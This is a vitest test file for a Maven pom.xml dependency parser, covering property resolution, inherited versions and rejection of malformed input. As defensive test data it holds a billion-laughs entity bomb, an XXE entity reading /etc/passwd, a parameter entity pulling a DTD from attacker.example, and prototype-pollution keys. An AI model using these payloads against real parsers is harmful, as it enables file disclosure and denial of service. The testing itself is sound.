// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${…} here is Maven property syntax inside test data, not a mistaken template
import { describe, expect, it } from 'vitest';
import { InventoryParseError } from './model.ts';
import { parsePomXml } from './pom-xml.ts';

const POM = `<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion>

  <parent>
    <groupId>com.example.shop</groupId>
    <artifactId>shop-parent</artifactId>
    <version>2.3.1-SNAPSHOT</version>
    <relativePath>../pom.xml</relativePath>
  </parent>

  <artifactId>shop-api</artifactId>
  <packaging>jar</packaging>
  <name>Shop API</name>

  <properties>
    <java.version>17</java.version>
    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>
    <spring-boot.version>2.7.18</spring-boot.version>
    <jackson.version>2.13.4.2</jackson.version>
    <log4j2.version>2.14.1</log4j2.version>
    <commons-text.version>1.9</commons-text.version>
    <guava.base>31.1</guava.base>
    <guava.version>\${guava.base}-jre</guava.version>
    <junit-jupiter.version>5.9.3</junit-jupiter.version>
  </properties>

  <dependencyManagement>
    <dependencies>
      <dependency>
        <groupId>org.springframework.boot</groupId>
        <artifactId>spring-boot-dependencies</artifactId>
        <version>\${spring-boot.version}</version>
        <type>pom</type>
        <scope>import</scope>
      </dependency>
      <dependency>
        <groupId>com.fasterxml.jackson.core</groupId>
        <artifactId>jackson-databind</artifactId>
        <version>\${jackson.version}</version>
      </dependency>
      <dependency>
        <groupId>org.apache.logging.log4j</groupId>
        <artifactId>log4j-core</artifactId>
        <version>\${log4j2.version}</version>
      </dependency>
    </dependencies>
  </dependencyManagement>

  <dependencies>
    <dependency>
      <groupId>org.springframework.boot</groupId>
      <artifactId>spring-boot-starter-web</artifactId>
    </dependency>
    <dependency>
      <groupId>com.fasterxml.jackson.core</groupId>
      <artifactId>jackson-databind</artifactId>
    </dependency>
    <dependency>
      <groupId>\${project.groupId}</groupId>
      <artifactId>shop-model</artifactId>
      <version>\${project.version}</version>
    </dependency>
    <dependency>
      <groupId>com.example.shop</groupId>
      <artifactId>shop-common</artifactId>
      <version>\${project.parent.version}</version>
    </dependency>
    <dependency>
      <groupId>org.apache.commons</groupId>
      <artifactId>commons-text</artifactId>
      <version>\${commons-text.version}</version>
    </dependency>
    <dependency>
      <groupId>com.google.guava</groupId>
      <artifactId>guava</artifactId>
      <version>\${guava.version}</version>
    </dependency>
    <dependency>
      <groupId>org.yaml</groupId>
      <artifactId>snakeyaml</artifactId>
      <version>[1.26,2.0)</version>
    </dependency>
    <dependency>
      <groupId>com.oracle.database.jdbc</groupId>
      <artifactId>ojdbc8</artifactId>
      <version>\${oracle.driver.version}</version>
    </dependency>
    <dependency>
      <groupId>org.junit.jupiter</groupId>
      <artifactId>junit-jupiter</artifactId>
      <version>\${junit-jupiter.version}</version>
      <scope>test</scope>
    </dependency>
    <dependency>
      <groupId>org.mockito</groupId>
      <artifactId>mockito-core</artifactId>
      <scope>test</scope>
    </dependency>
  </dependencies>

  <profiles>
    <profile>
      <id>postgres</id>
      <properties>
        <postgresql.version>42.3.1</postgresql.version>
      </properties>
      <dependencies>
        <dependency>
          <groupId>org.postgresql</groupId>
          <artifactId>postgresql</artifactId>
          <version>\${postgresql.version}</version>
          <scope>runtime</scope>
        </dependency>
      </dependencies>
    </profile>
  </profiles>

  <build>
    <plugins>
      <plugin>
        <groupId>org.springframework.boot</groupId>
        <artifactId>spring-boot-maven-plugin</artifactId>
        <version>\${spring-boot.version}</version>
      </plugin>
    </plugins>
  </build>
</project>
`;

const wrap = (deps: string, extra = '') =>
  `<project><modelVersion>4.0.0</modelVersion><groupId>g</groupId><artifactId>a</artifactId><version>1.0</version>${extra}<dependencies>${deps}</dependencies></project>`;
const dep = (g: string, a: string, v?: string) =>
  `<dependency><groupId>${g}</groupId><artifactId>${a}</artifactId>${v === undefined ? '' : `<version>${v}</version>`}</dependency>`;

describe('parsePomXml', () => {
  it('a module pom with parent, properties, management, profile', () => {
    expect(parsePomXml(POM, 'shop-api/pom.xml')).toEqual({
      type: 'pom.xml',
      packages: [
        { ecosystem: 'Maven', name: 'com.fasterxml.jackson.core:jackson-databind', version: '2.13.4.2', location: 'dependencies[1]' },
        { ecosystem: 'Maven', name: 'com.example.shop:shop-model', version: '2.3.1-SNAPSHOT', location: 'dependencies[2]' },
        { ecosystem: 'Maven', name: 'com.example.shop:shop-common', version: '2.3.1-SNAPSHOT', location: 'dependencies[3]' },
        { ecosystem: 'Maven', name: 'org.apache.commons:commons-text', version: '1.9', location: 'dependencies[4]' },
        { ecosystem: 'Maven', name: 'com.google.guava:guava', version: '31.1-jre', location: 'dependencies[5]' },
        { ecosystem: 'Maven', name: 'org.junit.jupiter:junit-jupiter', version: '5.9.3', location: 'dependencies[8]', dev: true },
        {
          ecosystem: 'Maven',
          name: 'org.springframework.boot:spring-boot-dependencies',
          version: '2.7.18',
          location: 'dependencyManagement[0]',
        },
        { ecosystem: 'Maven', name: 'org.apache.logging.log4j:log4j-core', version: '2.14.1', location: 'dependencyManagement[2]' },
        { ecosystem: 'Maven', name: 'org.postgresql:postgresql', version: '42.3.1', location: 'profiles[0].dependencies[0]' },
      ],
      warnings: [
        'dependencies[0] org.springframework.boot:spring-boot-starter-web: no version (managed by a parent or BOM not in this file), skipped',
        'dependencies[6] org.yaml:snakeyaml: version range "[1.26,2.0)" is not one version, skipped',
        'dependencies[7] com.oracle.database.jdbc:ojdbc8: version has unresolvable ${oracle.driver.version}, skipped',
        'dependencies[9] org.mockito:mockito-core: no version (managed by a parent or BOM not in this file), skipped',
      ],
    });
  });

  it('version and groupId inherited from <parent>; ${version} and ${pom.version} aliases', () => {
    const pom = `<project><parent><groupId>org.acme</groupId><artifactId>p</artifactId><version>3.0.0</version></parent><artifactId>m</artifactId>
      <dependencies>${dep('${project.groupId}', 'x', '${version}')}${dep('org.acme', 'y', '${pom.version}')}${dep('org.acme', 'z', '${project.parent.version}')}</dependencies></project>`;
    expect(parsePomXml(pom, 'pom.xml').packages.map((p) => `${p.name}@${p.version}`)).toEqual([
      'org.acme:x@3.0.0',
      'org.acme:y@3.0.0',
      'org.acme:z@3.0.0',
    ]);
  });

  it('self-referencing and exponentially growing properties end as unresolvable', () => {
    const props =
      '<properties><loop>${loop}</loop><a>${b}</a><b>${a}</b>' +
      '<l0>xxxxxxxxxx</l0><l1>${l0}${l0}${l0}${l0}${l0}${l0}${l0}${l0}${l0}${l0}</l1><l2>${l1}${l1}${l1}${l1}${l1}${l1}${l1}${l1}${l1}${l1}</l2>' +
      '<l3>${l2}${l2}${l2}${l2}${l2}${l2}${l2}${l2}${l2}${l2}</l3><l4>${l3}${l3}${l3}${l3}${l3}${l3}${l3}${l3}${l3}${l3}</l4></properties>';
    const result = parsePomXml(
      wrap(dep('g', 'loop', '${loop}') + dep('g', 'ab', '${a}') + dep('g', 'laughs', '${l4}') + dep('g', 'ok', '${l1}'), props),
      'pom.xml',
    );
    expect(result.packages).toEqual([{ ecosystem: 'Maven', name: 'g:ok', version: 'x'.repeat(100), location: 'dependencies[3]' }]);
    expect(result.warnings).toEqual([
      'dependencies[0] g:loop: version has unresolvable "${loop}" (properties nested more than 10 deep), skipped',
      'dependencies[1] g:ab: version has unresolvable "${a}" (properties nested more than 10 deep), skipped',
      'dependencies[2] g:laughs: version has unresolvable "${l4}" (expands past 1000 characters), skipped',
    ]);
  });

  it('DOCTYPE entities are never expanded: billion laughs stays literal, external entities are refused', () => {
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE project [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
${wrap(dep('g', 'laughs', '&lol9;') + dep('g', 'amp', '1.0&amp;2') + dep('g', 'num', '&#49;.&#x30;'))}`;
    const result = parsePomXml(laughs, 'pom.xml');
    expect(result.packages).toEqual([
      { ecosystem: 'Maven', name: 'g:amp', version: '1.0&2', location: 'dependencies[1]' },
      { ecosystem: 'Maven', name: 'g:num', version: '1.0', location: 'dependencies[2]' },
    ]);
    expect(result.warnings).toEqual(['dependencies[0] g:laughs: version has unresolvable entity reference in "&lol9;", skipped']);

    const internal = `<!DOCTYPE project [<!ENTITY v "1.2.3">]>${wrap(dep('g', 'a', '&v;'))}`;
    expect(parsePomXml(internal, 'pom.xml')).toEqual({
      type: 'pom.xml',
      packages: [],
      warnings: ['dependencies[0] g:a: version has unresolvable entity reference in "&v;", skipped'],
    });

    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n${wrap(dep('g', 'a', '&xxe;'))}`;
    expect(() => parsePomXml(xxe, 'evil/pom.xml')).toThrow(
      /^evil\/pom\.xml: unreadable XML, expected a Maven pom\.xml: External entities are not supported/,
    );
    const param = `<!DOCTYPE project [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>${wrap(dep('g', 'a', '1'))}`;
    expect(() => parsePomXml(param, 'pom.xml')).toThrow(InventoryParseError);
  });

  it('not a pom: InventoryParseError naming the file', () => {
    expect(() => parsePomXml('', 'pom.xml')).toThrow(/^pom\.xml: empty file/);
    expect(() => parsePomXml('  \n', 'pom.xml')).toThrow(/^pom\.xml: empty file/);
    expect(() => parsePomXml('PK\u0003\u0004\u0014\u0000\u0008', 'x.pom')).toThrow(/^x\.pom: not a text file/);
    expect(() => parsePomXml('<project><dependencies></project>', 'pom.xml')).toThrow(/^pom\.xml: not well-formed XML/);
    expect(() => parsePomXml('{"dependencies": []}', 'pom.xml')).toThrow(/^pom\.xml: not well-formed XML/);
    expect(() => parsePomXml('<?xml version="1.0"?><settings><servers/></settings>', 'settings.xml')).toThrow(
      /^settings\.xml: not a Maven pom\.xml: no <project> root element$/,
    );
    expect(() => parsePomXml(`<project>${'<a>'.repeat(200)}${'</a>'.repeat(200)}</project>`, 'deep.xml')).toThrow(InventoryParseError);
  });

  it('prototype keys are data; bad entries are warnings', () => {
    const pom = wrap(
      dep('g', 'p', '${__proto__}') +
        dep('g', 'c', '${constructor}') +
        dep('g', 'ts', '${toString}') +
        '<dependency>text</dependency>' +
        dep('', 'x', '1') +
        dep('g', 'ws', '1 2'),
      '<properties><__proto__>9.9</__proto__><constructor>8.8</constructor></properties>',
    );
    const result = parsePomXml(pom, 'pom.xml');
    expect(result.packages.map((p) => `${p.name}@${p.version}`)).toEqual(['g:p@9.9', 'g:c@8.8']);
    expect(result.warnings).toEqual([
      'dependencies[2] g:ts: version has unresolvable ${toString}, skipped',
      'dependencies[3]: not a <dependency> element, skipped',
      'dependencies[4]: no groupId, skipped',
      'dependencies[5] g:ws: version "1 2" contains whitespace, skipped',
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('a 10 MB single line; 200,000 dependencies', () => {
    const long = wrap(
      dep('g', 'a', '1.0'),
      `<description>${'d'.repeat(10_000_000)}</description><properties><huge>${'9'.repeat(10_000_000)}</huge></properties>`,
    );
    const result = parsePomXml(long.replace('</dependencies>', `${dep('g', 'huge', '${huge}${huge}${huge}')}</dependencies>`), 'long.xml');
    expect(result.packages).toEqual([{ ecosystem: 'Maven', name: 'g:a', version: '1.0', location: 'dependencies[0]' }]);
    expect(result.warnings).toEqual([
      'dependencies[1] g:huge: version has unresolvable "${huge}${huge}${huge}" (expands past 1000 characters), skipped',
    ]);

    const many = wrap(Array.from({ length: 200_000 }, (_, i) => dep('org.example', `a${i}`, `1.${i}`)).join('\n'));
    const big = parsePomXml(many, 'big.xml');
    expect(big.packages).toHaveLength(200_000);
    expect(big.packages[199_999]).toEqual({
      ecosystem: 'Maven',
      name: 'org.example:a199999',
      version: '1.199999',
      location: 'dependencies[199999]',
    });
  });
});
